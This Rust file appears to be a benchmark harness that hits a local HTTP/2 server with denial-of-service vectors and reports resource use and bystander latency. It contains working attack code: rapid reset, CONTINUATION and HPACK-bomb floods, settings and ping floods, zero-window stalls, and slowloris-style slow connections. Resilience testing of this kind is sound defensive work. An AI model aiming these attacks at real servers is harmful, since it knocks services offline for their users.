//! Hostile clients for `bench/hostile.sh`: one attack vector per run, on loopback, bounded in
//! connections and seconds, with a bystander fetching a small file every 50 ms on fresh
//! HTTP/2 connections throughout. Prints one Markdown table row: the server's reaction as the
//! attacker saw it, the server's CPU seconds and RSS growth (from /proc of the PIDs given),
//! the RSS a while after the attack's connections closed, and the bystander's success rate
//! and p99. With `--warm N` the RSS before is read `--settle` seconds after a warm-up (N
//! connections playing the same vector with at most 4 streams each for at most 10 s, then N
//! fetches of the small file), not on the untouched server; with `--check-rss` the run fails (exit 3) unless the peak growth is at
//! most 64 MiB and the RSS after at most 1.2 × the RSS before.
//!
//! ```text
//! hostile --vector zero-window --tls 127.0.0.1:8443 --h2c 127.0.0.1:8080 --h1 127.0.0.1:8080 \
//!   --pid 1234 --label h2push -n 32 --secs 10 --warm 4 --check-rss
//! ```

use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use clap::{Parser, ValueEnum};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpStream;

#[derive(Clone, Copy, ValueEnum, PartialEq, Eq, Debug)]
enum Vector {
    Silent,
    ZeroWindow,
    Exhaust,
    SlowTls,
    SlowPreface,
    SlowH1,
    SlowH2c,
    RapidReset,
    Continuation,
    HpackBomb,
    SettingsFlood,
    PingFlood,
}

#[derive(Parser)]
struct Args {
    #[arg(long, value_enum)]
    vector: Vector,
    /// TLS address (h2 by ALPN).
    #[arg(long)]
    tls: SocketAddr,
    /// Plaintext address that speaks h2c prior knowledge.
    #[arg(long)]
    h2c: SocketAddr,
    /// Plaintext address that speaks HTTP/1.1.
    #[arg(long)]
    h1: SocketAddr,
    /// Server PIDs whose CPU time and RSS are measured (all of nginx's processes).
    #[arg(long)]
    pid: Vec<u32>,
    /// The server's name in the row.
    #[arg(long, default_value = "server")]
    label: String,
    /// Attacking connections.
    #[arg(short, default_value_t = 100)]
    n: usize,
    /// Streams per connection (zero-window).
    #[arg(long, default_value_t = 128)]
    streams: u32,
    /// Seconds the attack lasts.
    #[arg(long, default_value_t = 10)]
    secs: u64,
    /// Seconds after the attack's connections are closed before RSS is read again (and,
    /// with `--warm`, after the warm-up before RSS is read the first time).
    #[arg(long, default_value_t = 3)]
    settle: u64,
    /// Warm-up connections before the RSS before is read: each plays the vector with at
    /// most 4 streams for at most 10 s, then fetches the small file on a fresh connection
    /// (0: read it on the untouched server).
    #[arg(long, default_value_t = 0)]
    warm: u32,
    /// Fail (exit 3) unless the peak RSS growth is at most 64 MiB and the RSS after at most
    /// 1.2 × the RSS before.
    #[arg(long)]
    check_rss: bool,
    #[arg(long, default_value = "/small.txt")]
    small: String,
    #[arg(long, default_value = "/big.bin")]
    big: String,
}

type Io = Pin<Box<dyn AsyncStream>>;
trait AsyncStream: AsyncRead + AsyncWrite + Send {}
impl<T: AsyncRead + AsyncWrite + Send> AsyncStream for T {}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

fn frame(ty: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len();
    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, ty, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

fn settings(pairs: &[(u16, u32)]) -> Vec<u8> {
    let mut p = Vec::new();
    for (id, v) in pairs {
        p.extend_from_slice(&id.to_be_bytes());
        p.extend_from_slice(&v.to_be_bytes());
    }
    frame(0x4, 0, 0, &p)
}

/// A GET header block: literal fields without indexing, no Huffman.
fn get_block(path: &str) -> Vec<u8> {
    let mut b = vec![0x82, 0x87]; // :method GET, :scheme https
    for (name, value) in [(":path", path), (":authority", "localhost")] {
        b.push(0x00);
        b.push(name.len() as u8);
        b.extend_from_slice(name.as_bytes());
        b.push(value.len() as u8);
        b.extend_from_slice(value.as_bytes());
    }
    b
}

async fn tls_connect(addr: SocketAddr, alpn: &[&[u8]]) -> std::io::Result<Io> {
    let tcp = TcpStream::connect(addr).await?;
    let config = h2push::tls::insecure_client_config(alpn);
    let connector = tokio_rustls::TlsConnector::from(config);
    let name = rustls_pki_types::ServerName::try_from("localhost").expect("a valid name");
    Ok(Box::pin(connector.connect(name, tcp).await?))
}

/// What the server did to the attacker's connections.
#[derive(Default)]
struct Seen {
    closed: AtomicU64,
    goaway: AtomicU64,
    rst: AtomicU64,
    closed_ms_total: AtomicU64,
    /// The error code of the last GOAWAY seen.
    goaway_code: AtomicU64,
}

impl Seen {
    fn summary(&self, of: usize) -> String {
        let closed = self.closed.load(Ordering::Relaxed);
        let mean = self.closed_ms_total.load(Ordering::Relaxed) / closed.max(1);
        let mut s = format!("{closed}/{of} conns closed");
        if closed > 0 {
            s += &format!(" (mean {:.1} s)", mean as f64 / 1000.0);
        }
        let (g, r) = (
            self.goaway.load(Ordering::Relaxed),
            self.rst.load(Ordering::Relaxed),
        );
        if g > 0 {
            let code = match self.goaway_code.load(Ordering::Relaxed) {
                0x0 => "NO_ERROR".to_string(),
                0x1 => "PROTOCOL_ERROR".to_string(),
                0x6 => "FRAME_SIZE_ERROR".to_string(),
                0x9 => "COMPRESSION_ERROR".to_string(),
                0xb => "ENHANCE_YOUR_CALM".to_string(),
                c => format!("0x{c:x}"),
            };
            s += &format!(", {g} GOAWAY (last {code})");
        }
        if r > 0 {
            s += &format!(", {r} RST_STREAM");
        }
        s
    }
}

/// Reads the server's frames until it closes or `until`, counting GOAWAY and RST_STREAM.
async fn watch_frames(
    mut rd: impl AsyncRead + Unpin,
    seen: Arc<Seen>,
    t0: Instant,
    until: Instant,
) {
    let mut buf = vec![0u8; 64 * 1024];
    let mut pending: Vec<u8> = Vec::new();
    let mut skip_preface = false;
    loop {
        let n = match tokio::time::timeout_at(until.into(), rd.read(&mut buf)).await {
            Err(_) => return,
            Ok(Ok(0)) | Ok(Err(_)) => {
                seen.closed.fetch_add(1, Ordering::Relaxed);
                let ms = u64::try_from(t0.elapsed().as_millis()).unwrap_or(0);
                seen.closed_ms_total.fetch_add(ms, Ordering::Relaxed);
                return;
            }
            Ok(Ok(n)) => n,
        };
        if skip_preface {
            continue;
        }
        pending.extend_from_slice(&buf[..n]);
        while pending.len() >= 9 {
            let len = usize::from(pending[0]) << 16
                | usize::from(pending[1]) << 8
                | usize::from(pending[2]);
            if pending.len() < 9 + len {
                if len > 1 << 20 {
                    skip_preface = true; // not HTTP/2 frames: just wait for the close
                }
                break;
            }
            match pending[3] {
                0x7 if len >= 8 => {
                    seen.goaway.fetch_add(1, Ordering::Relaxed);
                    let code =
                        u32::from_be_bytes([pending[13], pending[14], pending[15], pending[16]]);
                    seen.goaway_code.store(u64::from(code), Ordering::Relaxed);
                }
                0x3 => drop(seen.rst.fetch_add(1, Ordering::Relaxed)),
                _ => {}
            }
            pending.drain(..9 + len);
        }
    }
}

/// Opens one attacking connection and plays `vector` on it until `until` (zero-window: with
/// `streams` streams).
async fn attack_one(args: Arc<Args>, seen: Arc<Seen>, streams: u32, until: Instant) {
    let t0 = Instant::now();
    let v = args.vector;
    let io: Io = match v {
        Vector::Exhaust | Vector::SlowTls => match TcpStream::connect(args.tls).await {
            Ok(t) => Box::pin(t),
            Err(_) => return,
        },
        Vector::SlowH1 => match TcpStream::connect(args.h1).await {
            Ok(t) => Box::pin(t),
            Err(_) => return,
        },
        Vector::SlowH2c => match TcpStream::connect(args.h2c).await {
            Ok(t) => Box::pin(t),
            Err(_) => return,
        },
        _ => match tls_connect(args.tls, &[b"h2"]).await {
            Ok(t) => t,
            Err(_) => {
                seen.closed.fetch_add(1, Ordering::Relaxed);
                return;
            }
        },
    };
    let (rd, mut wr) = tokio::io::split(io);
    let watcher = tokio::spawn(watch_frames(rd, seen.clone(), t0, until));
    let deadline = tokio::time::Instant::from_std(until);
    let mut hello = PREFACE.to_vec();
    let result: std::io::Result<()> = async {
        match v {
            Vector::Exhaust => {}
            Vector::SlowTls => wr.write_all(&[0x16, 0x03, 0x01, 0x02, 0x00]).await?,
            Vector::SlowPreface => wr.write_all(&PREFACE[..16]).await?,
            Vector::SlowH1 => {
                wr.write_all(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
                    .await?;
                while tokio::time::Instant::now() < deadline {
                    tokio::time::sleep(Duration::from_secs(2)).await;
                    wr.write_all(b"X-a: b\r\n").await?;
                }
            }
            Vector::SlowH2c => {
                for b in PREFACE {
                    wr.write_all(&[*b]).await?;
                    tokio::time::sleep(Duration::from_millis(500)).await;
                    if tokio::time::Instant::now() >= deadline {
                        break;
                    }
                }
            }
            Vector::Silent => {
                hello.extend(settings(&[]));
                wr.write_all(&hello).await?;
            }
            Vector::ZeroWindow => {
                hello.extend(settings(&[(0x4, 0)]));
                for i in 0..streams {
                    hello.extend(frame(0x1, 0x5, 1 + 2 * i, &get_block(&args.big)));
                }
                wr.write_all(&hello).await?;
            }
            Vector::RapidReset => {
                hello.extend(settings(&[]));
                wr.write_all(&hello).await?;
                let mut id = 1u32;
                while tokio::time::Instant::now() < deadline && id < (1 << 30) {
                    let mut batch = Vec::new();
                    for _ in 0..100 {
                        batch.extend(frame(0x1, 0x5, id, &get_block(&args.small)));
                        batch.extend(frame(0x3, 0, id, &8u32.to_be_bytes()));
                        id += 2;
                    }
                    wr.write_all(&batch).await?;
                    tokio::task::yield_now().await;
                }
            }
            Vector::Continuation => {
                hello.extend(settings(&[]));
                hello.extend(frame(0x1, 0x0, 1, &get_block(&args.small)));
                wr.write_all(&hello).await?;
                // Literal fields "x-junk: aaaa..." without END_HEADERS, forever.
                let mut junk = Vec::new();
                while junk.len() < 16_000 {
                    junk.extend_from_slice(&[0x00, 6]);
                    junk.extend_from_slice(b"x-junk");
                    junk.push(100);
                    junk.extend_from_slice(&[b'a'; 100]);
                }
                let cont = frame(0x9, 0x0, 1, &junk);
                while tokio::time::Instant::now() < deadline {
                    wr.write_all(&cont).await?;
                    tokio::task::yield_now().await;
                }
            }
            Vector::HpackBomb => {
                hello.extend(settings(&[]));
                // One 4 KiB entry into the dynamic table, then 1-byte references to it.
                let mut block = get_block(&args.small);
                block.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0x81, 0x1f]); // value len 4096
                block.extend_from_slice(&[b'b'; 4096]);
                hello.extend(frame(0x1, 0x0, 1, &block));
                wr.write_all(&hello).await?;
                let refs = frame(0x9, 0x0, 1, &[0xbe; 16_000]);
                while tokio::time::Instant::now() < deadline {
                    wr.write_all(&refs).await?;
                    tokio::task::yield_now().await;
                }
            }
            Vector::SettingsFlood | Vector::PingFlood => {
                hello.extend(settings(&[]));
                wr.write_all(&hello).await?;
                let one = if v == Vector::PingFlood {
                    frame(0x6, 0, 0, &[0; 8])
                } else {
                    settings(&[(0x3, 100)])
                };
                let batch: Vec<u8> = one.repeat(1000);
                while tokio::time::Instant::now() < deadline {
                    wr.write_all(&batch).await?;
                    tokio::task::yield_now().await;
                }
            }
        }
        Ok(())
    }
    .await;
    drop(result);
    // Hold the connection (saying nothing more) until the attack ends or the server closes.
    let _ = tokio::time::timeout_at(deadline, watcher).await;
    drop(wr);
}

/// Fetches `path` on a fresh HTTP/2 connection; the time it took, if it worked.
async fn fetch(addr: SocketAddr, path: &str) -> Option<Duration> {
    let t0 = Instant::now();
    let run = async {
        let io = tls_connect(addr, &[b"h2"]).await.ok()?;
        let (mut client, conn) = h2::client::handshake(io).await.ok()?;
        let driver = tokio::spawn(conn);
        let req = http::Request::get(format!("https://localhost{path}"))
            .body(())
            .ok()?;
        let (res, _) = client.send_request(req, true).ok()?;
        let res = res.await.ok()?;
        let ok = res.status() == http::StatusCode::OK;
        let mut body = res.into_body();
        while let Some(chunk) = body.data().await {
            let chunk = chunk.ok()?;
            let _ = body.flow_control().release_capacity(chunk.len());
        }
        driver.abort();
        ok.then_some(())
    };
    match tokio::time::timeout(Duration::from_secs(2), run).await {
        Ok(Some(())) => Some(t0.elapsed()),
        _ => None,
    }
}

/// Each warm-up connection's streams (zero-window) and how long it may last.
const WARM_STREAMS: u32 = 4;
const WARM_SECS: u64 = 10;

/// The bounds `--check-rss` holds the server to.
const MAX_GROWTH_MIB: f64 = 64.0;
const MAX_AFTER_RATIO: f64 = 1.2;

fn proc_cpu_secs(pids: &[u32]) -> f64 {
    let tick = 100.0; // USER_HZ on Linux
    pids.iter()
        .filter_map(|p| std::fs::read_to_string(format!("/proc/{p}/stat")).ok())
        .filter_map(|s| {
            let after = s.rsplit_once(')')?.1.split_whitespace().collect::<Vec<_>>();
            let u: f64 = after.get(11)?.parse().ok()?;
            let k: f64 = after.get(12)?.parse().ok()?;
            Some((u + k) / tick)
        })
        .sum()
}

fn proc_rss_mib(pids: &[u32]) -> f64 {
    pids.iter()
        .filter_map(|p| std::fs::read_to_string(format!("/proc/{p}/status")).ok())
        .filter_map(|s| {
            let line = s.lines().find(|l| l.starts_with("VmRSS:"))?;
            line.split_whitespace().nth(1)?.parse::<f64>().ok()
        })
        .sum::<f64>()
        / 1024.0
}

#[tokio::main(flavor = "current_thread")]
async fn main() {
    let args = Arc::new(Args::parse());
    if args.warm > 0 {
        // The same attack in small, then the bystander's request, so that what the first
        // such connections allocate for good (TLS and runtime state, code paged in) is in
        // the RSS before.
        let until = Instant::now() + Duration::from_secs(WARM_SECS);
        let seen = Arc::new(Seen::default());
        let warm: Vec<_> = (0..args.warm)
            .map(|_| {
                let streams = args.streams.min(WARM_STREAMS);
                tokio::spawn(attack_one(args.clone(), seen.clone(), streams, until))
            })
            .collect();
        for w in warm {
            let _ = w.await;
        }
        for _ in 0..args.warm {
            if fetch(args.tls, &args.small).await.is_none() {
                eprintln!("hostile: a warm-up fetch failed");
            }
        }
        tokio::time::sleep(Duration::from_secs(args.settle)).await;
    }
    let (cpu0, rss0) = (proc_cpu_secs(&args.pid), proc_rss_mib(&args.pid));
    let started = Instant::now();
    let until = started + Duration::from_secs(args.secs);

    // The bystander: a fresh connection every 50 ms, on a thread of its own so that the
    // attack's loops do not delay it.
    let by_args = args.clone();
    let bystander = std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .expect("a runtime");
        rt.block_on(bystand(by_args, until))
    });
    async fn bystand(by_args: Arc<Args>, until: Instant) -> (usize, Vec<Duration>) {
        let mut tasks = Vec::new();
        let mut tick = tokio::time::interval(Duration::from_millis(50));
        while Instant::now() < until {
            tick.tick().await;
            let (addr, path) = (by_args.tls, by_args.small.clone());
            tasks.push(tokio::spawn(async move { fetch(addr, &path).await }));
        }
        let mut times = Vec::new();
        let total = tasks.len();
        for t in tasks {
            if let Ok(Some(d)) = t.await {
                times.push(d);
            }
        }
        (total, times)
    }

    // The attack: connections opened over the first second (or at once for floods).
    let seen = Arc::new(Seen::default());
    let mut attackers = Vec::new();
    let mut peak_rss = rss0;
    for i in 0..args.n {
        attackers.push(tokio::spawn(attack_one(
            args.clone(),
            seen.clone(),
            args.streams,
            until,
        )));
        if i % 50 == 49 {
            tokio::time::sleep(Duration::from_millis(20)).await;
            peak_rss = peak_rss.max(proc_rss_mib(&args.pid));
        }
    }
    while Instant::now() < until {
        tokio::time::sleep(Duration::from_millis(200)).await;
        peak_rss = peak_rss.max(proc_rss_mib(&args.pid));
    }
    let cpu = proc_cpu_secs(&args.pid) - cpu0;
    for a in attackers {
        let _ = tokio::time::timeout(Duration::from_secs(2), a).await;
    }
    let reaction = seen.summary(args.n);
    let (total, mut times) = bystander.join().unwrap_or((0, Vec::new()));
    tokio::time::sleep(Duration::from_secs(args.settle)).await;
    let rss_after = proc_rss_mib(&args.pid);
    times.sort();
    let p99 = times
        .get((times.len() * 99 / 100).min(times.len().saturating_sub(1)))
        .map_or("-".to_string(), |d| format!("{}", d.as_millis()));
    println!(
        "| {:?} | {} | {} | {:.2} | {:+.1} | {:.1} → {:.1} | {}/{} ({:.1}%) | {} |",
        args.vector,
        args.label,
        reaction,
        cpu,
        peak_rss - rss0,
        rss0,
        rss_after,
        times.len(),
        total,
        100.0 * times.len() as f64 / total.max(1) as f64,
        p99
    );
    if args.check_rss {
        let growth = peak_rss - rss0;
        let bound = MAX_AFTER_RATIO * rss0;
        let verdict = |ok: bool| if ok { "ok" } else { "FAILED" };
        let (growth_ok, after_ok) = (growth <= MAX_GROWTH_MIB, rss_after <= bound);
        eprintln!(
            "{:?} {}: RSS peak {growth:+.1} MiB (at most +{MAX_GROWTH_MIB}): {}; \
             {} s after {rss_after:.1} MiB (at most {MAX_AFTER_RATIO} × {rss0:.1} = {bound:.1}): {}",
            args.vector,
            args.label,
            verdict(growth_ok),
            args.settle,
            verdict(after_ok),
        );
        if !(growth_ok && after_ok) {
            std::process::exit(3);
        }
    }
}
